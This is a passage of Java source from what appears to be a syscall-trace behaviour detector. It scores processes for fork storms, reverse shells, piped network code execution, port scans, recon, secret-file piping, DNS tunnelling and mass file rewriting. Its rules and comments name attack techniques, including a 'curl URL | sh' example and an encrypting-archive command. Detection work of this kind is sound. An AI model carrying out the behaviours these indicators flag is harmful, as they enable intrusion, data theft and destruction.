    private static boolean holds(long[] filter, int h) {
        int a = (h >>> 20) & (CREATED_BITS - 1);
        int b = h & (CREATED_BITS - 1);
        return filter != null && (filter[a >>> 6] & (1L << a)) != 0 && (filter[b >>> 6] & (1L << b)) != 0;
    }

    /** Its exit or kill: its storm run and the files it and its ended children created go to the nodes that outlive it. */
    private void ended() {
        spreadStorm();
        publishOnlinePipe(); // lean traces show no write: a filter in the middle tells its family when it ends
        if (parentNode != null) {
            parentNode.childEnded(made);
            if (forkNode != null) {
                parentNode.childEnded(forkNode.endedChildren);
            }
            parentNode.replacedBelow = Math.min(parentNode.replacedBelow + replacedFiles + (forkNode == null ? 0 : forkNode.replacedBelow),
                    MAX_COUNT);
        }
    }

    /**
     * @return a made file's key in its filter: the hash of its basename (the same file shows up as an absolute and a
     *     cwd-relative path), or for a {@link #DIRECTORY} of its whole path (a basename would let {@code mkdir /tmp/root}
     *     stand for {@code /root})
     */
    private static int key(int kind, String path) {
        return (kind == DIRECTORY ? path.hashCode() : basenameHash(path)) * 0x9E3779B1;
    }

    private static int basenameHash(String path) {
        int h = 0;
        for (int i = path.lastIndexOf('/') + 1; i < path.length(); i++) {
            h = 31 * h + path.charAt(i);
        }
        return h;
    }

    /** @return this process's fork node, made on its first fork when it has none (a root, or since its exec) */
    private ForkNode node() {
        if (forkNode == null) {
            forkNode = new ForkNode();
        }
        return forkNode;
    }

    /**
     * @return the fork nodes a child of {@code parent} reads: the parent's (made now if it has forked none yet, as
     *     when /proc placed the child before the parent's clone returned), then the parent's nearest ancestors
     */
    private static ForkNode[] ancestorsOf(BehaviourAccumulator parent) {
        ForkNode[] above = new ForkNode[FORK_STORM_CHAIN]; // a leaf under 4 such generations counts too
        above[0] = parent.node();
        if (parent.forkAbove != null) {
            System.arraycopy(parent.forkAbove, 0, above, 1, above.length - 1);
        }
        return above;
    }

    /**
     * @return 1 if this process had 2 or more children alive at once, plus the number of its ancestors in a row,
     *     from its parent up, that did (the nearest {@link #FORK_STORM_CHAIN} looked at)
     */
    private int concurrentChain() {
        int chain = forkNode != null && forkNode.maxAlive >= 2 ? 1 : 0;
        if (forkAbove != null) {
            for (ForkNode n : forkAbove) {
                if (n == null || n.maxAlive < 2) {
                    break;
                }
                chain++;
            }
        }
        return chain;
    }

    /**
     * When this process and its ancestors make a run of {@link #FORK_STORM_CHAIN} or more generations with 2 or more
     * children alive at once, marks the nodes of the run's members as a storm, so that a member scored after it (the
     * top of a bomb exits last, after every descendant) has {@code ind.fork_storm} too although it cannot see the
     * generations below it. Called when the run can have grown (its own fork) or before the node is dropped (exit,
     * kill, exec): at the same events live and offline, so a replayed trace marks the same nodes.
     */
    private void spreadStorm() {
        if (concurrentChain() < FORK_STORM_CHAIN) {
            return;
        }
        if (forkNode != null && forkNode.maxAlive >= 2) {
            forkNode.storm = true;
        }
        for (ForkNode n : forkAbove) { // not null: a chain of 4 needs ancestors
            if (n == null || n.maxAlive < 2) {
                break;
            }
            n.storm = true;
        }
    }

    /**
     * @return true if one of its {@link #FORK_STORM_CHAIN} nearest ancestors (without exec in between) is a member of
     *     a storm run: a bomb's members that fork fewer than 2 children themselves (its leaves, the late children of a
     *     Python bomb's loop) belong to the storm too
     */
    private boolean stormAbove() {
        if (forkAbove != null) {
            for (ForkNode n : forkAbove) {
                if (n != null && n.storm) {
                    return true;
                }
            }
        }
        return false;
    }

    /**
     * How many of a process's children were alive at once: forked and not yet reaped by {@code wait4}. Its children
     * and their descendants (up to {@link #FORK_STORM_CHAIN} generations down, without exec in between) hold it
     * and read it when they are scored, so a parent's later forks count for children it forked earlier; children that
     * end leave in it the files they made, per kind (at most 3 x 512 bytes). Nodes hold no
     * references, so a process keeps at most {@link #FORK_STORM_CHAIN} + 2 of them alive, however deep the tree. Written by the owner, by members of its storm
     * run and by its ending children, read by its descendants, all on the tracker's thread.
     */
    /** The last few pipe inodes (non-zero) a fork node was told of, the newest replacing the oldest. */
    static final class PipeRing {
        private final long[] inodes;
        private int next;

        PipeRing(int size) {
            inodes = new long[size];
        }

        void add(long inode) {
            if (!has(inode)) {
                inodes[next] = inode;
                next = (next + 1) % inodes.length;
            }
        }

        boolean has(long inode) {
            for (long p : inodes) {
                if (p == inode) {
                    return true;
                }
            }
            return false;
        }
    }

    static final class ForkNode {
        private int alive;
        private int maxAlive;
        /** Set by a member of a storm run this node belongs to ({@link #spreadStorm()}). */
        private boolean storm;
        /** The made-files filters of its children that ended, per kind, or'ed together; null while none. */
        private final long[][] endedChildren = new long[FILE_KINDS][];
        /** {@link #replacedFiles} of its children that ended and of theirs. */
        private int replacedBelow;
        /** A process holding this node connected to, or accepted from, an inet address ({@link #familyOnline()}). */
        private boolean online;
        /** The last few pipes its family wrote network data into ({@link #publishOnlinePipe()}); null while none. */
        private PipeRing onlinePipes;
        /** The last few pipes a member of its family that read a secret file writes into ({@link #publishSecretPipe()}). */
        private PipeRing secretPipes;
        /** The DNS questions carrying data its children sent ({@link #tunnelQuestion}); null while none. */
        private TunnelCount tunnel;

        TunnelCount tunnel() {
            if (tunnel == null) {
                tunnel = new TunnelCount();
            }
            return tunnel;
        }

        void addOnlinePipe(long inode) {
            if (onlinePipes == null) {
                onlinePipes = new PipeRing(ONLINE_PIPES);
            }
            onlinePipes.add(inode);
        }

        boolean hasOnlinePipe(long inode) {
            return onlinePipes != null && onlinePipes.has(inode);
        }

        void addSecretPipe(long inode) {
            if (secretPipes == null) {
                secretPipes = new PipeRing(SECRET_PIPES);
            }
            secretPipes.add(inode);
        }

        boolean hasSecretPipe(long inode) {
            return secretPipes != null && secretPipes.has(inode);
        }

        void childEnded(long[][] made) {
            for (int k = 0; k < FILE_KINDS; k++) {
                endedChildren[k] = or(endedChildren[k], made[k]);
            }
        }

        private static long[] or(long[] into, long[] bits) {
            if (bits == null) {
                return into;
            }
            long[] out = into == null ? new long[bits.length] : into;
            for (int i = 0; i < bits.length; i++) {
                out[i] |= bits[i];
            }
            return out;
        }

        void childStarted() {
            alive++;
            maxAlive = Math.max(maxAlive, alive);
        }

        void childReaped() {
            alive = Math.max(0, alive - 1);
        }
    }

    /** The indicators decided on totals rather than on one event. */
    private void derivedIndicators(float[] v) {
        if (ports != null && ports.estimate() >= SCAN_PORTS || sweptHosts != null && sweptHosts.estimate() >= SCAN_PORTS) {
            v[Feature.IND_PORT_SCAN.ordinal()] = 1; // many ports of a host, or one service port of many hosts
        }
        if (marks[Feature.NET_DUP_SOCKET_TO_STDIO.ordinal()] > 0 || marks[Feature.NET_STDIO_SOCKET_IO.ordinal()] > 0 || relayedShell()
                || shellOfAConnectedParent()) {
            v[Feature.IND_REVERSE_SHELL.ordinal()] = 1;
        }
        if (programFromStdin && (familyOnlinePipe(stdinPipe) || stdinFetched) || familyOnlinePipe(scriptPipe)) {
            v[Feature.IND_STAGED_EXEC.ordinal()] = 1; // curl URL | sh: runs code straight from the network
        }
        if (forkFailedEagain || concurrentChain() >= FORK_STORM_CHAIN || forkNode != null && forkNode.storm || stormAbove()) {
            v[Feature.IND_FORK_STORM.ordinal()] = 1;
        }
        if ((marks[Feature.MEM_WX_MAPPING.ordinal()] > 0 || marks[Feature.MEM_MEMFD.ordinal()] > 0) && !Indicators.Role.JIT.of(exeBase)) {
            v[Feature.IND_MEM_EXEC.ordinal()] = 1;
        }
        if (marks[Feature.PATH_PROC_SCAN.ordinal()] >= SCAN_PROCESSES && !Indicators.Role.PROCESS_VIEWER.of(exeBase)
                || Integer.bitCount(reconKinds) >= RECON_KINDS || permissionHunt) {
            v[Feature.IND_RECON.ordinal()] = 1;
        }
        if (Indicators.Role.PRIVILEGE.of(exeBase) && realUid > 0 && stdinNotTty) {
            v[Feature.IND_SETID_ATTEMPT.ordinal()] = 1;
        }
        if (marks[Feature.EXEC_ENCODED_ARGS.ordinal()] > 0) {
            v[Feature.IND_ENCODED_COMMAND.ordinal()] = 1;
        }
        int replaced = replacedFiles + (forkNode == null ? 0 : forkNode.replacedBelow);
        if ((foreignFilesDestroyed >= MASS_REWRITE_FILES && filesWritten >= MASS_REWRITE_FILES || replaced >= MASS_REWRITE_FILES
                || inPlaceRewrites >= MASS_REWRITE_FILES)
                && !Indicators.Role.TREE.of(exeBase)
                && !Indicators.Role.PACKAGE.of(exeBase) // userdel -r: six account files relocked and rewritten, a home removed
                || encryptingArchiver && foreignFilesDestroyed >= MASS_REWRITE_FILES) { // zip -m -P PW *: one locked archive
            v[Feature.IND_MASS_REWRITE.ordinal()] = 1;
        }
        int count = 0;
        int severity = 0;
        for (int i = 0; i < INDICATORS.length; i++) {
            if (v[INDICATORS[i]] > 0) {
                count++;
                severity = Math.max(severity, INDICATOR_SEVERITY[i]);
            }
        }
        v[Feature.IND_COUNT.ordinal()] = count;
        v[Feature.IND_MAX_SEVERITY.ordinal()] = severity;
        v[Feature.IND_ANY.ordinal()] = count > 0 ? 1 : 0;
        v[Feature.PROC_FORK_GENERATION.ordinal()] = forkGeneration;
    }

    // ---------------------------------------------------------------- helpers

    private void set(Feature f) {
        marks[f.ordinal()] = 1;
    }

    private void count(Feature f) {
        marks[f.ordinal()]++;
    }

    /** @return {@link String#hashCode()} of the last decoded path (for tests) */
    int pathHash() {
        return pathHash;
    }

    /** @return the evidence log, made on first use */
    private EvidenceLog log() {
        if (evidence == null) {
            evidence = new EvidenceLog();
        }
        return evidence;
    }

    /** Adds {@code name(args) = ret [ERRNO]} to the evidence, rendered only when the log may keep it. */
    private void note(int priority, TraceEvent e, CharSequence args) {
        if (evidence == null || evidence.keeps(priority)) {
            log().add(priority, render(e, args, null));
        }
    }

    /** {@link #note(int, TraceEvent, CharSequence)} with the arguments {@code first, second}. */
    private void note(int priority, TraceEvent e, CharSequence first, CharSequence second) {
        if (evidence == null || evidence.keeps(priority)) {
            log().add(priority, render(e, first, second));
        }
    }

    /**
     * @param second null, or text that follows {@code first} after {@code ", "}
     * @return {@code name(args) = ret [ERRNO]} in this thread's scratch buffer (valid until the next render),
     *     the arguments cut to {@link EvidenceLog#MAX_LENGTH} characters and {@code ...}
     */
    private static StringBuilder render(TraceEvent e, CharSequence first, CharSequence second) {
        StringBuilder sb = RENDERED.get();
        if (sb.capacity() > 4 * EvidenceLog.MAX_LENGTH) {
            sb = new StringBuilder(2 * EvidenceLog.MAX_LENGTH); // one huge line does not stay allocated
            RENDERED.set(sb);
        }
        sb.setLength(0);
        sb.append(e.syscallName()).append('(');
        int room = EvidenceLog.MAX_LENGTH;
        int length = first.length() + (second == null ? 0 : 2 + second.length());
        room = appendClipped(sb, first, room);
        if (second != null) {
            room = appendClipped(sb, ", ", room);
            appendClipped(sb, second, room);
        }
        if (length > EvidenceLog.MAX_LENGTH) {
            sb.append("...");
        }
        sb.append(')');
        if (e.hasReturnValue()) {
            int id = e.syscall();
            boolean address = (id == Syscalls.MMAP || id == Syscalls.MREMAP || id == Syscalls.BRK) && e.returnValue() > 0;
            sb.append(" = ");
            if (address) {
                sb.append("0x").append(Long.toHexString(e.returnValue()));
            } else {
                sb.append(e.returnValue());
            }
            if (e.errnoName() != null) {
                sb.append(' ').append(e.errnoName());
            }
        }
        return sb;
    }

    /** Appends at most {@code room} characters of {@code text}; returns the room left. */
    private static int appendClipped(StringBuilder sb, CharSequence text, int room) {
        int n = Math.min(room, text.length());
        sb.append(text, 0, n);
        return room - n;
    }

    @Override
    public FeatureVector snapshot() {
        float[] v = new float[BehaviourFeatures.SIZE];
        double n = Math.max(1, syscalls);
        v[Feature.ACT_SYSCALLS_LOG.ordinal()] = log1p(syscalls);
        int distinct = 0;
        double entropy = 0;
        int[] perCategory = new int[CATEGORIES.length];
        for (int slot = 0; slot < perSyscall.length; slot++) {
            int c = perSyscall[slot];
            if (c > 0) {
                distinct++;
                double p = c / n;
                entropy -= p * Math.log(p);
                // the same sums as counting each call's categories as it comes: they depend on the slot alone
                for (int cats = SyscallTable.slotCategories(slot), k = 0; cats != 0; k++, cats >>>= 1) {
                    if ((cats & 1) != 0) {
                        perCategory[k] += c;
                    }
                }
            }
        }
        v[Feature.ACT_DISTINCT_SYSCALLS_LOG.ordinal()] = log1p(distinct);
        v[Feature.ACT_SYSCALL_ENTROPY.ordinal()] = (float) (entropy / Math.log(2));
        Feature[] groups = BehaviourFeatures.GROUPS;
        for (int g = 0; g < groups.length; g++) {
            if (perGroup[g] != 0) {
                v[groups[g].ordinal()] = (float) (perGroup[g] / n);
            }
            v[BehaviourFeatures.COUNT_BASE + g] = log1p(perGroup[g]);
        }
        for (int b = 0; b < perOther.length; b++) {
            v[BehaviourFeatures.OTHER_BASE + b] = log1p(perOther[b]);
        }
        double pairs = Math.max(1, bigrams);
        for (int b = 0; b < perBigram.length; b++) {
            v[BehaviourFeatures.BIGRAM_BASE + b] = (float) (perBigram[b] / pairs);
        }
        for (int c = 0; c < CATEGORIES.length; c++) {
            v[CATEGORIES[c]] = (float) (perCategory[c] / n);
        }
        v[Feature.ERR_RATE.ordinal()] = (float) (failed / n);
        v[Feature.ERR_EACCES_RATE.ordinal()] = (float) (eacces / n);
        v[Feature.ERR_EPERM_RATE.ordinal()] = (float) (eperm / n);
        v[Feature.ERR_ENOENT_RATE.ordinal()] = (float) (enoent / n);
        v[Feature.ERR_ECONNREFUSED_RATE.ordinal()] = (float) (refused / n);
        v[Feature.ERR_BURST.ordinal()] = Math.max(maxFailed, windowFailed) / (float) WINDOW;
        v[Feature.ERR_DENIED_BURST.ordinal()] = Math.max(maxDenied, windowDenied) / (float) WINDOW;
        v[Feature.FILE_DESTRUCTIVE_BURST.ordinal()] = Math.max(maxDestructive, windowDestructive) / (float) WINDOW;
        v[Feature.PROC_FORK_BURST.ordinal()] = Math.max(maxForks, windowForks) / (float) WINDOW;
        v[Feature.PROC_FORK_RATE.ordinal()] = (float) (forks / n);
        v[Feature.PRIV_DENIED_RATE.ordinal()] = (float) (privDenied / n);
        v[Feature.FILE_DISTINCT_LOG.ordinal()] = files == null ? 0 : log1p(files.estimate());
        v[Feature.FILE_OPEN_FAIL_RATIO.ordinal()] = opens == 0 ? 0 : (float) openFails / opens;
        v[Feature.FILE_WRITE_OPEN_RATIO.ordinal()] = opens == 0 ? 0 : (float) openWrites / opens;
        v[Feature.IO_READ_BYTES_LOG.ordinal()] = log1p(readBytes);
        v[Feature.IO_WRITE_BYTES_LOG.ordinal()] = log1p(writeBytes);
        v[Feature.NET_BYTES_LOG.ordinal()] = log1p(netBytes);
        v[Feature.NET_CONNECT_COUNT.ordinal()] = log1p(connects);
        v[Feature.NET_CONNECT_FAIL_RATIO.ordinal()] = connects == 0 ? 0 : (float) connectFails / connects;
        v[Feature.NET_DISTINCT_ENDPOINTS_LOG.ordinal()] = endpoints == null ? 0 : log1p(endpoints.estimate());
        v[Feature.NET_DISTINCT_PORTS_LOG.ordinal()] = ports == null ? 0 : log1p(ports.estimate());
        v[Feature.EXEC_FAIL_RATIO.ordinal()] = execs == 0 ? 0 : (float) execFails / execs;
        for (int f : LOG_MARKS) {
            v[f] = log1p(marks[f]);
        }
        for (int f : RATE_MARKS) {
            v[f] = (float) (marks[f] / n);
        }
        for (int f : FLAGS) {
            v[f] = marks[f] > 0 ? 1 : 0;
        }
        derivedIndicators(v);
        return new FeatureVector(owner.schema(), v);
    }

    /**
     * @return {@code (float) Math.log1p(x)}; for the small whole numbers most counts are, the same value from
     *     {@link #LOG1P}
     */
    static float log1p(double x) {
        int k = (int) x;
        // -0.0 == 0 too, but Math.log1p keeps its sign: only +0.0 (raw bits 0) comes from the table
        return k == x && k >= 0 && k < LOG1P.length && (k != 0 || Double.doubleToRawLongBits(x) == 0) ? LOG1P[k]
                : (float) Math.log1p(x);
    }

    @Override
    public List<String> evidence() {
        return evidence == null ? List.of() : evidence.lines();
    }
}
